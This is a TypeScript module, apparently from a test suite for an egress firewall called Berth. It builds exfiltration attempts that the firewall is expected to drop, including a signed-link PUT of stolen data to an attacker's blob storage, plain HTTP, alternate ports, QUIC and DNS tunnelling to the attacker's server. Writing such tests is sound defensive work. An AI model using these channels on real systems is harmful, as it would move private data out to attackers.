import { type Attack, requestBytes } from './attack.ts';
import type { Facts } from './facts.ts';

/** The upload that all of this is about: one PUT with a signed link of the attacker's own. */
export function directPut({ attacker, drop, loot }: Facts): Attack {
  const fields = ['x-ms-blob-type: BlockBlob', 'x-ms-version: 2021-12-02'];
  const bytes = requestBytes(`PUT ${drop}`, attacker.host, fields, loot);
  return { what: 'PUT to another account', to: attacker.host, bytes, wanted: [201] };
}

/** Past Berth: every one of these must die in the client's own firewall. */
export function directAttacks(facts: Facts): Attack[] {
  const { attacker, behind, login, data, loot } = facts;
  const put = directPut(facts);
  const dropped = (what: string, more: Partial<Attack>): Attack => ({
    ...put,
    what,
    ...more,
    wanted: 'dropped',
  });
  return [
    dropped('PUT to another account', {}),
    dropped('PUT to another account by address', { to: attacker.address }),
    dropped('PUT to another account without TLS', { transport: 'tcp', port: 80 }),
    dropped('PUT to another account at another port', { transport: 'tcp', port: 8443 }),
    dropped('QUIC to another account', { transport: 'udp', bytes: loot }),
    dropped("DNS at the attacker's own server", { transport: 'udp', port: 53, bytes: loot }),
    dropped("DNS over TCP at the attacker's own server", { transport: 'tcp', port: 53, bytes: loot }),
    ...behind.map(({ name, address }) => dropped(`${name} past Berth`, { to: address })),
    ...[login, data].map((to) => dropped(`another port of ${to}`, { to, transport: 'tcp', port: 9465 })),
  ];
}
